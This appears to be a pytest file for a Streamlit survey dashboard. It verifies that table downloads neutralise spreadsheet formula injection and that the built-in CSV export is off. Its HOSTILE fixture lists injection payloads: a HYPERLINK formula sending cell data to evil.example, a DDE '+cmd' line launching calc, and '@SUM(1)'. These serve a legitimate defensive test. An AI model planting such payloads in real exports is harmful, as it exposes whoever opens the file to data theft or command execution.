"""Every table the app shows downloads formula-safe; Streamlit's own CSV export is off.

Before the fix, the built-in "Download as CSV" of the open-answers table wrote
``=HYPERLINK(…)``, ``+cmd|…`` and ``@SUM(1)`` unneutralised (survey respondents are outsiders).
"""

from __future__ import annotations

import datetime as dt
import decimal
import io
import tomllib
from pathlib import Path

import numpy
import openpyxl
import pytest
import xlsxwriter
from streamlit.testing.v1 import AppTest

from charts.table import TEXT, table
from data.demo import load_demo
from data.store import open_db
from export.safe import write_value
from export.table_file import table_workbook
from i18n import t

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikkaa")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def test_builtin_csv_download_is_off() -> None:
    with (ROOT / ".streamlit" / "config.toml").open("rb") as fh:
        assert tomllib.load(fh)["client"]["disableDataExport"] is True


def _sheet(data_rows: list[list[object]], lang: str) -> openpyxl.worksheet.worksheet.Worksheet:
    columns = [("Vastaus", TEXT), ("n", "count"), ("Pvm", TEXT), ("Tyhjä", TEXT), ("€", "eur")]
    book = openpyxl.load_workbook(io.BytesIO(table_workbook(table("", columns, data_rows), lang)))
    return book.active


def test_table_download_keeps_text_as_text_and_numbers_in_their_unit() -> None:
    """A plain table (no title): the header in row 1, hostile text as string cells, counts,
    euros and dates as numbers in the language's formats, missing values empty."""
    rows = [[text, 1234, dt.date(2024, 5, 15), None, 1500.5] for text in HOSTILE]
    sheet = _sheet(rows, "fi")
    assert [c.value for c in sheet[1]] == ["Vastaus", "n", "Pvm", "Tyhjä", "€"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:E4"
    for index, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(index, 1)
        assert (cell.value, cell.data_type) == (text, "s")  # a string, never a formula ("f")
        assert (sheet.cell(index, 2).value, sheet.cell(index, 2).number_format) == (1234, "#,##0")
        assert sheet.cell(index, 3).value == dt.datetime(2024, 5, 15)
        assert sheet.cell(index, 3).number_format == "d.m.yyyy"
        assert sheet.cell(index, 4).value is None
        assert sheet.cell(index, 5).value == 1500.5
        assert sheet.cell(index, 5).number_format == '#,##0.00 "€"'


def test_table_download_in_english_and_a_year_stays_a_year() -> None:
    sheet = _sheet([[2024, 7, dt.datetime(2024, 5, 15, 9, 30), "ei kirjattu", 0.0]], "en")
    assert (sheet["A2"].value, sheet["A2"].number_format) == (2024, "General")  # not "2,024"
    assert sheet["C2"].value == dt.datetime(2024, 5, 15, 9, 30)
    assert sheet["C2"].number_format == "yyyy-mm-dd hh:mm"
    assert (sheet["D2"].value, sheet["D2"].data_type) == ("ei kirjattu", "s")
    assert sheet["E2"].number_format == '"€"#,##0.00'


@pytest.fixture
def hostile_answers_db(tmp_path: Path) -> Path:
    path = tmp_path / "demo.duckdb"
    con = open_db(path)
    load_demo(con)
    [(item,)] = con.execute(
        "SELECT code FROM survey_item WHERE scale = 'text' ORDER BY code LIMIT 1"
    ).fetchall()
    for number, text in enumerate(HOSTILE):
        con.execute(
            "INSERT INTO survey_answer (cluster_id, survey_id, import_id, response_no, item_code,"
            " value_text) SELECT cluster_id, survey_id, import_id, 9000 + ?, ?, ? FROM v_survey"
            " ORDER BY year DESC LIMIT 1",
            [number, item, text],
        )
    con.close()
    return path


def test_open_answers_show_as_typed_with_a_safe_download(
    hostile_answers_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KLUSTERIMITTARI_DB", str(hostile_answers_db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/surveys.py").run()
    assert not at.exception
    shown = [text for frame in at.dataframe for text in frame.value.get("text", [])]
    assert set(HOSTILE) <= set(shown)  # what people see is not changed
    labels = (t("ui.export.table", "fi"), t("ui.chart.download", "fi"))
    downloads = [b for b in at.get("download_button") if any(x in str(b.proto) for x in labels)]
    assert len(downloads) == len(at.dataframe) > 0


# value -> (openpyxl's data type of the cell, its value); None: no cell is written at all.
WRITE_VALUE_CASES = {
    "text": ("Loimaa", ("s", "Loimaa")),
    "formula-like text": ("=1+1", ("s", "=1+1")),
    "text of a str subclass": (numpy.str_("-5"), ("s", "-5")),
    "whole number": (3, ("n", 3)),
    "decimal": (decimal.Decimal("2.50"), ("n", 2.5)),
    "float NaN": (float("nan"), None),
    "numpy NaN": (numpy.float64("nan"), None),
    "None": (None, None),
    "boolean": (True, ("b", True)),
    "date, as Excel's day number": (dt.date(2024, 5, 6), ("n", 45418)),
}


@pytest.mark.parametrize("case", WRITE_VALUE_CASES)
def test_write_value_by_type(case: str) -> None:
    value, expected = WRITE_VALUE_CASES[case]
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    write_value(book.add_worksheet(), 0, 0, value)
    book.close()
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert ((cell.data_type, cell.value) if cell.value is not None else None) == expected
